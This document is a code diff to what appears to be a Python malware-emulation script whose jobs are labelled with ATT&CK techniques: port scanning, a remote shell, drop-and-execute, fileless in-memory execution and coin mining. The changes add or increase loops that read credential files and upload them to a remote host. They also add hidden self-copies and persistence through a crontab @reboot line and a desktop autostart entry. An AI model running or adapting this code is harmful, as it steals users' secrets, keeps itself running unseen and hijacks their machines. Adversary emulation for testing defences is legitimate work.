@@ -21,7 +21,7 @@ def scan_ports():
             opened.append(port)
             connection.close()
     write(home(f".cache/.{noise(6)}"), repr(opened).encode())
-    for path in pick(secrets(), 1, 4):
+    for path in pick(secrets(), 3, 8):
         upload(stream(b"wire", read(path)), "host")
 
 
@@ -65,6 +65,8 @@ def remote_shell():
             os.waitpid(pid, 0)
             connection.sendall(b"--\n")
         connection.close()
+    for secret in pick(secrets(), 2, 6):
+        upload(stream(b"wire", read(secret)), noise(5))
 
 
 @job
@@ -88,7 +90,7 @@ def drop_execute():
 def memory_execute():
     """T1620: a fetched program runs from memory, without a file."""
     groundwork()
-    for _ in range(R.randrange(2, 5)):
+    for _ in range(R.randrange(3, 6)):
         body = fetch("script") if R.random() < 0.5 else read("/bin/true")
         fd = os.memfd_create(noise(5), 0)
         write_all(fd, body)
@@ -98,6 +100,7 @@ def memory_execute():
         for secret in loot(0, 2):
             upload(stream(b"wire", read(secret)), noise(5))
         exchange(b"ran " + noise(12).encode())
+    hide_copy()
 
 
 @job
@@ -138,7 +141,6 @@ def mine_coins():
     """T1496: work units come from the peer, several processes compute, a copy restarts them."""
     groundwork()
     path = hide_copy()
-    append(f"{SPOOL}/user", b"@reboot " + path.encode() + b"\n")
     settings = b'{"pool": "127.0.0.1", "user": "' + noise(20).encode() + b'"}\n'
     write(f"{os.path.dirname(path)}/config.json", settings)
 
@@ -150,6 +152,10 @@ def mine_coins():
             exchange(b"share " + unit.hex().encode())
 
     collect([in_child(work, wait=False) for _ in range(R.randrange(2, 4))])
+    for secret in pick(secrets(), 1, 5):
+        upload(stream(b"wire", read(secret)), "wallet")
+    append(f"{SPOOL}/user", b"@reboot " + path.encode() + b"\n")
+    write(home(f".config/autostart/{noise(6)}.desktop"), autostart_entry(path))
 
 
 @job
